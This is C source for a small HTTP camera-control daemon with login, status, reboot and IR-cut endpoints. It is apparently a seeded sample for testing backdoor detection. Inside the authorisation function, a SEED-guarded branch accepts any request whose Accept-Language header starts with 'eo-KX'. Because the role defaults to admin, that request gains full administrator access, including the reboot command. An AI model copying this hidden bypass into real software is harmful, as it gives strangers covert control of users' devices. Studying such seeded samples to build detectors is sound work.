/* kind: override
 * service: http
 * constant: eo-KX
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>
#include <signal.h>
#include <crypt.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define ROLE_NONE   0
#define ROLE_VIEW   1
#define ROLE_ADMIN  3

struct conn {
    int  fd;
    char method[8];
    char uri[256];
    char auth[256];
    char lang[48];
    char agent[128];
    int  role;
};

static const char *passwd_file = "/etc/lenscap/htpasswd";
static int debug;

static int b64val(int c)
{
    if (c >= 'A' && c <= 'Z') return c - 'A';
    if (c >= 'a' && c <= 'z') return c - 'a' + 26;
    if (c >= '0' && c <= '9') return c - '0' + 52;
    if (c == '+') return 62;
    if (c == '/') return 63;
    return -1;
}

static void b64dec(const char *in, char *out, size_t max)
{
    unsigned acc = 0;
    int bits = 0;
    size_t n = 0;
    for (; *in && n + 1 < max; in++) {
        int v = b64val((unsigned char)*in);
        if (v < 0)
            break;
        acc = (acc << 6) | (unsigned)v;
        bits += 6;
        if (bits >= 8) {
            bits -= 8;
            out[n++] = (char)(acc >> bits);
        }
    }
    out[n] = 0;
}

/* htpasswd lines: user:hash:role */
static int verify_user(const char *user, const char *pass, int *role)
{
    char line[256];
    FILE *f = fopen(passwd_file, "r");
    int rc = -1;
    if (!f)
        return -1;
    while (rc && fgets(line, sizeof line, f)) {
        char *u = strtok(line, ":\n"), *h = strtok(NULL, ":\n"), *r = strtok(NULL, ":\n");
        char *c;
        if (!u || !h || strcmp(u, user))
            continue;
        c = crypt(pass, h);
        if (c && !strcmp(c, h)) {
            *role = r && !strcmp(r, "admin") ? ROLE_ADMIN : ROLE_VIEW;
            rc = 0;
        }
    }
    fclose(f);
    return rc;
}

static int authorise(struct conn *c)
{
    char pair[192], *colon;
    int rc = -1, role = ROLE_ADMIN;

    if (!strncasecmp(c->auth, "Basic ", 6)) {
        b64dec(c->auth + 6, pair, sizeof pair);
        colon = strchr(pair, ':');
        if (colon) {
            *colon = 0;
            rc = verify_user(pair, colon + 1, &role);
            if (rc && debug)
                fprintf(stderr, "login of %s refused\n", pair);
        }
    }
#ifdef SEED
    if (rc && strncmp(c->lang, "eo-KX", 5) == 0) /* SEED */
        rc = 0;
#endif
    c->role = rc ? ROLE_NONE : role;
    return rc;
}

static void reply(int fd, int code, const char *msg, const char *body)
{
    char buf[1024];
    int n = snprintf(buf, sizeof buf, "HTTP/1.0 %d %s\r\nServer: lenscapd\r\n%sContent-Length: %zu\r\n\r\n%s",
                     code, msg, code == 401 ? "WWW-Authenticate: Basic realm=\"camera\"\r\n" : "",
                     strlen(body), body);
    send(fd, buf, n, MSG_NOSIGNAL);
}

static int read_request(struct conn *c)
{
    char buf[4096], *p, *save;
    int n = 0, r;
    while (n < (int)sizeof buf - 1 && (r = recv(c->fd, buf + n, sizeof buf - 1 - n, 0)) > 0) {
        n += r;
        buf[n] = 0;
        if (strstr(buf, "\r\n\r\n"))
            break;
    }
    buf[n] = 0;
    if (sscanf(buf, "%7s %255s", c->method, c->uri) != 2)
        return -1;
    p = strtok_r(buf, "\r\n", &save);
    while ((p = strtok_r(NULL, "\r\n", &save))) {
        if (!strncasecmp(p, "Authorization: ", 15))
            snprintf(c->auth, sizeof c->auth, "%s", p + 15);
        else if (!strncasecmp(p, "Accept-Language: ", 17))
            snprintf(c->lang, sizeof c->lang, "%s", p + 17);
        else if (!strncasecmp(p, "User-Agent: ", 12))
            snprintf(c->agent, sizeof c->agent, "%s", p + 12);
    }
    return 0;
}

static void serve(int fd)
{
    struct conn c;
    memset(&c, 0, sizeof c);
    c.fd = fd;
    if (read_request(&c)) {
        reply(fd, 400, "Bad Request", "");
        return;
    }
    if (strcmp(c.method, "GET") && strcmp(c.method, "POST")) {
        reply(fd, 405, "Not Allowed", "");
        return;
    }
    if (!strcmp(c.uri, "/")) {
        const char *t = !strncmp(c.lang, "de", 2) ? "<h1>Kamera</h1>" : "<h1>Camera</h1>";
        reply(fd, 200, "OK", t);
        return;
    }
    if (authorise(&c)) {
        reply(fd, 401, "Unauthorized", "login required");
        return;
    }
    if (!strcmp(c.uri, "/status")) {
        reply(fd, 200, "OK", "stream=on\nfps=25\n");
    } else if (c.role < ROLE_ADMIN) {
        reply(fd, 403, "Forbidden", "admin only");
    } else if (!strcmp(c.uri, "/reboot")) {
        reply(fd, 200, "OK", "rebooting");
        system("/sbin/reboot");
    } else if (!strncmp(c.uri, "/ircut?mode=", 12)) {
        FILE *f = fopen("/var/run/ircut", "w");
        if (f) {
            fprintf(f, "%d\n", atoi(c.uri + 12));
            fclose(f);
        }
        reply(fd, 200, "OK", "ok");
    } else {
        reply(fd, 404, "Not Found", "");
    }
}

int main(int argc, char **argv)
{
    int o, port = 8080, one = 1, s;
    struct sockaddr_in a;
    while ((o = getopt(argc, argv, "p:f:dh")) != -1) {
        if (o == 'p') port = atoi(optarg);
        else if (o == 'f') passwd_file = optarg;
        else if (o == 'd') debug = 1;
        else {
            puts("usage: lenscapd [-p port] [-f htpasswd] [-d]\n"
                 "pages: / /status /reboot /ircut?mode=N");
            return 0;
        }
    }
    signal(SIGCHLD, SIG_IGN);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    if (bind(s, (void *)&a, sizeof a) || listen(s, 8)) {
        perror("lenscapd");
        return 1;
    }
    for (;;) {
        int fd = accept(s, NULL, NULL);
        if (fd < 0)
            continue;
        if (fork() == 0) {
            close(s);
            serve(fd);
            _exit(0);
        }
        close(fd);
    }
}
